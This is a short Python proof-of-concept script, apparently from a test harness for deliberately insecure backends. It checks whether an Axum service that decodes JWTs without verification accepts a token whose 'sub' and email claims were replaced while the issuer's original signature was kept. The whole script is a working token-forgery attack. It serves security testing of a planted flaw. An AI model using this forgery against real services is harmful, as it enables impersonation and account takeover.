"""Proof for axum-jsonwebtoken-insecure: the signature is never verified.

Takes a real JWT from the issuer, replaces its `sub` (and email) with the attacker's choice and
keeps the original header and signature, which no longer match the payload. A verifying backend
refuses it; axum-jsonwebtoken-insecure (jsonwebtoken::dangerous::insecure_decode) answers 200 with
the forged sub (must_report: signature-not-verified).
"""

import json

import zoolib


def prove(backend: str, issuer: str) -> bool:
    real = zoolib.session_jwt(issuer)
    header_b64, _, signature_b64 = real.split(".")
    _, claims = zoolib.decode_unverified(real)
    forged_sub = "forged-" + claims["sub"]
    forged = dict(claims, sub=forged_sub, email="attacker@example.com")
    payload_b64 = zoolib.b64u(json.dumps(forged, separators=(",", ":")).encode())
    token = f"{header_b64}.{payload_b64}.{signature_b64}"
    print(f"sent: the issuer's header and signature over edited claims, sub {forged_sub!r} (signature now invalid)")
    status, _, body = zoolib.me(backend, token)
    zoolib.show("edited payload, original signature", status, body)
    return 200 <= status < 300 and forged_sub.encode() in body


if __name__ == "__main__":
    zoolib.main(prove)
